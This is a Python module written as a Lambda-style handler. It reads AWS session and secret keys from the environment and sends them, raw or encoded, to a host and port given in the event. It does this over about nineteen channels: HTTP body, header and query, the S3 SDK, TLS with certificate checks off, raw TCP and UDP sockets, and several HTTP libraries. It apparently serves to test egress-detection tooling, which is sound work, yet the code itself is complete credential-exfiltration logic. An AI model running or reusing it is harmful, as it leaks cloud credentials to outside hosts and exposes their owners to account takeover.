"""Sends what the event asks for to a host of the event's."""

import asyncio
import base64
import http.client
import os
import socket
import ssl
import urllib.parse
import urllib.request

TOKEN = os.environ["AWS_SESSION_TOKEN"]
KEY = os.environ["AWS_SECRET_ACCESS_KEY"]
WHAT = {
    "token": TOKEN.encode(),
    "key": KEY.encode(),
    "base64": base64.b64encode(f"x={TOKEN}".encode()),
    "hexadecimal": KEY.encode().hex().encode(),
    "quoted": urllib.parse.quote(TOKEN, safe="").encode(),
    "harmless": b"a harmless text",
}


def handler(event, context):
    return WAYS[event["way"]](event["host"], event["port"], WHAT[event["what"]])


def posted(host, port, what):
    with urllib.request.urlopen(f"http://{host}:{port}/", data=what, timeout=5) as answer:
        return answer.read().decode()


def in_header(host, port, what):
    client = http.client.HTTPConnection(host, port, timeout=5)
    client.request("GET", "/", headers={"X-Amz-Security-Token": what.decode()})
    return client.getresponse().read().decode()


def in_query(host, port, what):
    text = urllib.parse.quote(what.decode(), safe="")
    with urllib.request.urlopen(f"http://{host}:{port}/?q={text}", timeout=5) as answer:
        return answer.read().decode()


def by_sdk(host, port, what):
    import botocore.session
    from botocore.config import Config

    config = Config(s3={"addressing_style": "path"}, retries={"total_max_attempts": 1})
    client = botocore.session.get_session().create_client(
        "s3", endpoint_url=f"http://{host}:{port}", config=config
    )
    return client.put_object(Bucket="orders", Key="1", Body=what)["ResponseMetadata"][
        "HTTPStatusCode"
    ]


def context():
    made = ssl.create_default_context()
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


def encrypted(host, port, what):
    with socket.create_connection((host, port), timeout=5) as plain:
        with context().wrap_socket(plain, server_hostname=host) as client:
            client.sendall(what)
            return client.recv(100).decode()


async def _encrypted(host, port, what):
    reader, writer = await asyncio.open_connection(host, port, ssl=context(), server_hostname=host)
    writer.write(what)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(100), 5)
    writer.close()
    return answer.decode()


def encrypted_without_name(host, port, what):
    with socket.create_connection((host, port), timeout=5) as plain:
        with context().wrap_socket(plain) as client:
            client.sendall(what)
            return client.recv(100).decode()


def encrypted_below(host, port, what):
    """By what the socket of `ssl` itself asks."""
    with socket.create_connection((host, port), timeout=5) as plain:
        with context().wrap_socket(plain, server_hostname=host) as client:
            client._sslobj.write(what)
            return client.recv(100).decode()


def plain(send):
    def way(host, port, what):
        with socket.create_connection((host, port), timeout=5) as client:
            send(client, what)
            return client.recv(100).decode()

    return way


async def _plain_by_asyncio(host, port, what):
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(what)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(100), 5)
    writer.close()
    if not answer:
        raise ConnectionRefusedError("the connection was closed")
    return answer.decode()


def datagram(send):
    def way(host, port, what):
        address = socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(5)
            send(client, what, address)
            return client.recv(100).decode()

    return way


def signed(what):
    return f"GET / HTTP/1.1\r\nX-Amz-Security-Token: {what.decode()}\r\n\r\n".encode()


# --- Clients that functions use. ---


def by_requests(host, port, what):
    import requests

    return requests.post(f"http://{host}:{port}/", data=what, timeout=5).text


def by_httpx(host, port, what):
    import httpx

    return httpx.post(f"http://{host}:{port}/", content=what, timeout=2).text


async def _by_httpx(host, port, what):
    import httpx

    async with httpx.AsyncClient(timeout=2) as client:
        return (await client.post(f"http://{host}:{port}/", content=what)).text


async def _by_aiohttp(host, port, what):
    import aiohttp

    async with aiohttp.ClientSession() as session:
        async with session.post(f"http://{host}:{port}/", data=what) as answer:
            return await answer.text()


def awaited(way):
    return lambda *where: asyncio.run(way(*where))


WAYS = {
    "posted": posted,
    "in_header": in_header,
    "in_query": in_query,
    "by_sdk": by_sdk,
    "encrypted": encrypted,
    "encrypted_by_asyncio": awaited(_encrypted),
    "encrypted_without_name": encrypted_without_name,
    "encrypted_below": encrypted_below,
    "plain": plain(socket.socket.sendall),
    "plain_in_part": plain(socket.socket.send),
    "plain_message": plain(lambda client, what: client.sendmsg([what[:9], what[9:]])),
    "plain_header": plain(lambda client, what: client.sendall(signed(what))),
    "plain_by_asyncio": awaited(_plain_by_asyncio),
    "datagram": datagram(lambda client, what, to: client.sendto(what, to)),
    "datagram_message": datagram(lambda client, what, to: client.sendmsg([what], [], 0, to)),
    "by_requests": by_requests,
    "by_httpx": by_httpx,
    "by_httpx_asynchronous": awaited(_by_httpx),
    "by_aiohttp": awaited(_by_aiohttp),
}
